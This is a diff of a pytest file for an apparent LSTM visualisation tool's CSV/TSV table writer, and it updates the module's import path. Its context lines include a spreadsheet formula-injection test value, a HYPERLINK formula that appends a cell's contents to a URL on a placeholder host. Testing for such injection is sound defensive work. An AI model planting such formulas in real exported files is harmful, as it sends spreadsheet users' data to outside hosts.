@@ -8,10 +8,10 @@ from pathlib import Path
 import pytest
 
 import lstm_viz
-from lstm_viz.app.tables import Number, Table, csv_text, tsv_text
+from lstm_viz.app.widgets.tables import Number, Table, csv_text, tsv_text
 
 _SOURCES = sorted(Path(lstm_viz.__file__).parent.rglob("*.py"))
-_WRITER = Path(lstm_viz.__file__).parent / "app" / "tables.py"
+_WRITER = Path(lstm_viz.__file__).parent / "app" / "widgets" / "tables.py"
 
 FORMULAS = (
     '=HYPERLINK("http://a/?"&A1,"x")',
